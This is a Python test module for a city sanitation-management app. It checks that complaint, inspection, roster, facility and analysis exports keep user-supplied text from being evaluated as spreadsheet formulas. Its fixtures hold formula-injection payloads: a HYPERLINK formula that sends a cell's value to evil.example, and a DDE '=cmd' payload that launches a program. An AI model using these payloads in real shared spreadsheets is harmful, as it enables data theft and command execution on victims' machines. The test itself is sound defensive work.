"""No spreadsheet formula injection: a resident's, an inspector's or an office's words stay words in every sheet
the project writes (findings_nyc.md 0). Anyone may post ``=HYPERLINK("http://evil/?x="&A1,…)`` through the public
channel; Excel and WPS would evaluate it on opening the staff's export. XLSX: such text is a string cell (openpyxl's
data_type 's', never 'f'), its words unchanged; CSV: text starting with = + - @ gets a leading apostrophe (OWASP).
Numbers stay numbers. On a module copy of the small demo, through the routes and commands the offices use."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import UTC, datetime

import openpyxl
import psycopg2
import pytest
from click.testing import CliRunner

from api.cli.main import main
from layers.workflow import public_challenges
from tests.inspecting import (  # noqa: F401 (fixtures)
    OWN_STREET,
    app_client,
    auth,
    city_fixture,
    new_round,
    point_in,
    post_finding,
    query,
)

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AT = "@SUM(1)"
UNIT = "=cmd|' /C calc'!A0"
NOTE = "=2+2"
TOILET = '=HYPERLINK("http://evil.example/","公厕")'
BAD_TOILET = "=1+1 坏行"
COMMUNITY = "=HYPERLINK(\"http://evil.example/\",\"社区\")"


@pytest.fixture(scope="module")
def client(city):
    """The app on the module's demo copy; the public channel's proof of work small enough for a test."""
    os.environ["HYGIENE_MAP_PUBLIC_POW_BITS"] = "8"
    try:
        with app_client(city) as c:
            yield c
    finally:
        os.environ.pop("HYGIENE_MAP_PUBLIC_POW_BITS", None)


def _cli(city, *args):
    done = CliRunner().invoke(main, [str(a) for a in args], env={"DATABASE_URL": city["url"]},
                              catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.output


@pytest.fixture(scope="module")
def words(client, city, tmp_path_factory):
    """The words of people put where the offices' sheets take them from, as each comes in: two public reports,
    a grid's unit, an inspector's note, toilets imported from a file (one row rejected), a plan and an outline."""
    work = tmp_path_factory.mktemp("words")
    put = client.put(f"/api/grids/{city['grid']['own']}/assignment", headers=auth(city, "admin1"),
                     json={"unit": UNIT, "manager": "王伟", "phone": "0535-6123456", "reason": "人员调整"})
    assert put.status_code == 200, put.text
    lon, lat = point_in(city, "own")
    # Two places and categories: a report at the same place joins the case of the first (its words stay apart).
    for text, grid, category in ((LINK, "own", "暴露垃圾"), (AT, "own2", "道路不洁")):
        ch = client.get("/api/public/challenge").json()
        made = client.post("/api/public/reports", json={
            "lon": point_in(city, grid)[0], "lat": point_in(city, grid)[1], "category": category,
            "description": text, "challenge": ch["challenge"],
            "nonce": public_challenges.solve(ch["challenge"], ch["bits"])})
        assert made.status_code == 201 and not made.json()["joined"], made.text
    the_round = new_round(client, city)
    # Seen now, after the unit took the grid: the finding is charged to it.
    assert post_finding(client, city, the_round["id"], note=NOTE, observed=datetime.now(UTC)).status_code == 201
    # A toilets file from an office: one row good, one with a bad longitude (rejected with --skip-bad).
    source = work / "toilets.csv"
    long_words = "此公厕位于农贸市场东侧，" * 30  # longer than a .dbf field: the shapefile puts it aside in a CSV
    with source.open("w", newline="", encoding="utf-8") as fh:
        rows = csv.writer(fh)
        rows.writerow(["编号", "名称", "经度", "纬度", "厕位数", "高程", "说明"])
        rows.writerow(["=T1", TOILET, lon, lat, 6, "-3.5", long_words])
        rows.writerow(["T2", BAD_TOILET, "东经121度", lat, 4, "-2.5", "坏"])
    rejects = work / "toilets.rejects.csv"
    _cli(city, "import", "toilets", source, "--skip-bad", "--id-field", "编号", "--source", "office",
         "--rejects", rejects)
    (toilet,) = query(city["url"], "SELECT id FROM toilets WHERE name = %s", (TOILET,))[0]
    plan = client.post("/api/plans", headers=auth(city, "admin1"), json={
        "name": "=1+1", "kind": "toilets", "edits": [{"op": "move", "id": toilet, "lon": lon + 0.001, "lat": lat}]})
    assert plan.status_code == 201, plan.text
    # An outline imported under a name that starts with "=" (the demo's community renamed as a re-import would).
    (community,) = query(city["url"], "SELECT code FROM admin_areas WHERE level = 'community' ORDER BY code")[0]
    conn = psycopg2.connect(city["url"])
    with conn, conn.cursor() as cur:
        cur.execute("UPDATE admin_areas SET name = %s WHERE code = %s", (COMMUNITY, community))
    conn.close()
    return {"work": work, "rejects": rejects, "plan": plan.json()["id"], "round": the_round["id"]}


def _cells(content: bytes, sheet: int | str = 0):
    """Every cell of a workbook's sheet with a value: (value, data_type) by value."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    ws = book.worksheets[sheet] if isinstance(sheet, int) else book[sheet]
    return {c.value: c.data_type for row in ws.iter_rows() for c in row if c.value is not None}


def _column(content: bytes, header: str, sheet: int | str = 0, head_row: int = 1) -> list:
    """The cells (openpyxl) of the column headed ``header``."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    ws = book.worksheets[sheet] if isinstance(sheet, int) else book[sheet]
    heads = [c.value for c in ws[head_row]]
    j = heads.index(header) + 1
    return [row[0] for row in ws.iter_rows(min_row=head_row + 1, min_col=j, max_col=j) if row[0].value is not None]


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_public_reports_stay_words_in_the_complaint_export(client, city, words):
    """The staff's complaint export: the resident's "=HYPERLINK(…)" and "@SUM(1)" are text cells with the very
    words (XLSX) and begin with an apostrophe (CSV); ids and coordinates are numbers."""
    xlsx = client.get("/api/layers/complaints/export?format=xlsx", headers=auth(city, "admin1"))
    assert xlsx.status_code == 200, xlsx.text
    cells = _cells(xlsx.content)
    assert cells[LINK] == "s" and cells[AT] == "s", {v: t for v, t in cells.items() if str(v)[:1] in "=@"}
    assert all(t != "f" for t in cells.values())
    assert {c.data_type for c in _column(xlsx.content, "经度(WGS84)")} == {"n"}
    assert {c.data_type for c in _column(xlsx.content, "纬度(WGS84)")} == {"n"}
    text = client.get("/api/layers/complaints/export?format=csv", headers=auth(city, "admin1")).text
    rows = _csv(text)
    described = [row for row in rows if any(v in ("'" + LINK, "'" + AT) for v in row)]
    assert len(described) == 2, [row for row in rows if "evil" in ",".join(row)]
    lon = rows[0].index("lon (WGS84)")
    assert all(float(row[lon]) > 0 and not row[lon].startswith("'") for row in rows[1:])


def test_a_findings_note_and_a_units_name_stay_words_in_the_problem_list(client, city, words):
    """An inspector's note "=2+2" and the unit "=cmd…" in 问题清单.xlsx: text cells; points and longitudes numbers."""
    got = client.get(f"/api/inspections/rounds/{words['round']}/problems.xlsx", headers=auth(city, "admin1"))
    assert got.status_code == 200, got.text
    assert [(c.value, c.data_type) for c in _column(got.content, "问题描述")] == [(NOTE, "s")]
    assert [(c.value, c.data_type) for c in _column(got.content, "责任单位")] == [(UNIT, "s")]
    assert _cells(got.content, 1)[UNIT] == "s"  # the units' sheet
    assert {c.data_type for c in _column(got.content, "扣分")} == {"n"}
    assert {c.data_type for c in _column(got.content, "经度(WGS84)")} == {"n"}


def test_a_units_name_stays_words_in_the_roster_and_the_bulletin(client, city, words):
    """The grid roster (`grids roster`) and the month's bulletin workbook name the unit "=cmd…" as text."""
    out = words["work"] / "roster.xlsx"
    _cli(city, "grids", "roster", "--street", OWN_STREET, "--out", out)
    units = _column(out.read_bytes(), "责任单位")
    assert [(c.value, c.data_type) for c in units if c.value == UNIT] == [(UNIT, "s")]
    assert {c.data_type for c in _column(out.read_bytes(), "网格编码")} == {"s"}  # codes as text, every digit
    assert {c.data_type for c in _column(out.read_bytes(), "未结投诉")} == {"n"}
    month = query(city["url"], "SELECT to_char(now() AT TIME ZONE 'Asia/Shanghai', 'YYYY-MM')")[0][0]
    bulletin = client.get(f"/reports/bulletin.xlsx?period=month&date={month}")
    assert bulletin.status_code == 200, bulletin.text
    book = openpyxl.load_workbook(io.BytesIO(bulletin.content))
    found = [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.value == UNIT]
    assert found and set(found) == {(UNIT, "s")}
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    unit_rows = [row for ws in book.worksheets for row in ws.iter_rows() if any(c.value == UNIT for c in row)]
    assert all(any(c.data_type == "n" and isinstance(c.value, int | float) for c in row) for row in unit_rows)


def test_imported_names_stay_words_in_the_rejects_the_layer_and_the_shapefile(client, city, words):
    """--skip-bad's rejects CSV: the rejected name with an apostrophe, its numbers (-2.5, 4) as they were read;
    the toilets layer's export: the good row's name as text (XLSX) and escaped (CSV); the shapefile's aside CSV."""
    rows = _csv(words["rejects"].read_text(encoding="utf-8-sig"))
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("名称")] == "'" + BAD_TOILET
    assert row[header.index("高程")] == "-2.5" and row[header.index("厕位数")] == "4" and row[0] == "3"
    # Corrected (the longitude) and imported back: the office's words, without the apostrophe.
    fixed = words["work"] / "toilets.rejects.corrected.csv"
    row[header.index("经度")] = str(point_in(city, "own2")[0])
    with fixed.open("w", newline="", encoding="utf-8-sig") as fh:
        csv.writer(fh).writerows([header, row])
    _cli(city, "import", "toilets", fixed, "--source", "office")
    assert query(city["url"], "SELECT count(*) FROM toilets WHERE name = %s", (BAD_TOILET,)) == [(1,)]
    xlsx = client.get("/api/layers/toilets/export?format=xlsx", headers=auth(city, "admin1")).content
    assert _cells(xlsx)[TOILET] == "s" and _cells(xlsx)["=T1"] == "s"
    assert {c.data_type for c in _column(xlsx, "厕位数")} == {"n"}
    text = client.get("/api/layers/toilets/export?format=csv", headers=auth(city, "admin1")).text
    mine = [r for r in _csv(text) if "'" + TOILET in r]
    assert len(mine) == 1 and "'=T1" in mine[0] and "6" in mine[0]
    shp = client.get("/api/layers/toilets/export?format=shp", headers=auth(city, "admin1"))
    assert shp.status_code == 200, shp.text
    with zipfile.ZipFile(io.BytesIO(shp.content)) as zf:
        (aside,) = [n for n in zf.namelist() if n.endswith("_attributes.csv")]
        rows = _csv(zf.read(aside).decode("utf-8-sig"))
    assert [r[:2] for r in rows if r[1].endswith("=T1")] == [["office", "'=T1"]]


def test_plan_and_facility_names_stay_words_in_the_comparison(client, city, words):
    """A plan named "=1+1" moving the toilet named "=HYPERLINK(…)": the comparison workbook's cells are text."""
    got = client.get(f"/api/plans/{words['plan']}/compare?format=xlsx", headers=auth(city, "admin1"))
    assert got.status_code == 200, got.text
    first = _cells(got.content, 0)
    assert first["方案：=1+1"] == "s" and first[COMMUNITY] == "s"
    edits = _cells(got.content, 1)
    assert edits[TOILET] == "s" and {c.data_type for c in _column(got.content, "经度(WGS84)", 1)} == {"n"}


def test_an_area_name_stays_words_in_the_analysis_tables(client, city, words, tmp_path):
    """/api/analysis/coverage?format=xlsx|csv and the command's --out x.csv (for scripts, escaped all the same)."""
    query_string = "/api/analysis/coverage?kind=toilets&by=community"
    xlsx = client.get(query_string + "&format=xlsx")
    assert xlsx.status_code == 200, xlsx.text
    cells = _cells(xlsx.content)
    assert cells[COMMUNITY] == "s" and "f" not in cells.values()
    assert {type(v) for v, t in cells.items() if t == "n"} >= {float}
    rows = _csv(client.get(query_string + "&format=csv").text)
    assert ["'" + COMMUNITY] == [v for r in rows for v in r if "evil" in v]
    out = tmp_path / "coverage.csv"
    _cli(city, "analyze", "coverage", "--kind", "toilets", "--by", "community", "--out", out)
    rows = _csv(out.read_text(encoding="utf-8-sig"))
    mine = [r for r in rows if "'" + COMMUNITY in r]
    assert len(mine) == 1 and float(mine[0][rows[0].index("area_km2")]) > 0, rows[:2]
